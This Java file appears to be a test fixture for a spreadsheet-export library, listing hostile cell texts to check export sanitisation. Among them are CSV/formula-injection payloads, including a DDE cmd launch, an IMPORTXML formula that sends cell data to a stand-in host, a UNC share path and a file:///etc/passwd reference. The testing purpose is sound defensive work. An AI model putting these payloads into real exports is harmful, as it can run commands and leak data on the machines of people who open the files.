package io.loggia.analytics.export;

import java.util.List;
import java.util.Random;

/** Texts that would harm whoever opens a careless export. */
final class HostileText {

    static final List<String> KNOWN = List.of(
            "=1+1",
            "+1+1",
            "-1+1",
            "@SUM(A1:A9)",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            " =1+1",
            "\u00a0=1+1",
            "\u200b=1+1",
            "\ufeff=1+1",
            "＝1+1",
            "＋1",
            "－1",
            "＠SUM(1)",
            "\"=1+1\"",
            "'=1+1",
            "=cmd|'/C calc'!A0",
            "DDE(\"cmd\";\"/C calc\";\"!A0\")",
            "=IMPORTXML(\"http://evil.example/?\"&A1,\"//a\")",
            "=HYPERLINK(\"javascript:alert(1)\",\"x\")",
            "x;=1+1;y",
            "x\t=1+1",
            "x\n=1+1",
            "javascript:alert(1)",
            "file:///etc/passwd",
            "\\\\evil.example\\share",
            "http://evil.example/",
            "</t></is></c><c t=\"str\"><f>1+1</f></c>",
            "<f>1+1</f>",
            "_x003D_1+1",
            "_x005F_x003D_1",
            "_x0000_",
            "a\u0000b",
            "a\u0001\u001fb",
            "a\ud800b",
            "\udc00",
            "\ufffe\uffff",
            "😀 smile",
            "a,b\"c\r\nd",
            overlong(0x1D49C, 20_000),
            overlong('=', 40_000),
            "");

    private static final String ALPHABET =
            "=+-@＝＋－＠;,|\"'\t\r\n \u0000\u0008\u001f<>&_x003Dabé漢\ud83d\ude00\ufffe\u00a0\u200b1!()";

    private HostileText() {}

    /** Varied, since POI refuses to read what packs too well. */
    private static String overlong(int first, int length) {
        Random random = new Random(first);
        StringBuilder text = new StringBuilder().appendCodePoint(first);
        for (int i = 1; i < length; i++) {
            text.appendCodePoint(first + random.nextInt(20));
        }
        return text.toString();
    }

    static String random(Random random) {
        StringBuilder text = new StringBuilder();
        for (int i = random.nextInt(12); i >= 0; i--) {
            text.append(ALPHABET.charAt(random.nextInt(ALPHABET.length())));
        }
        return text.toString();
    }
}
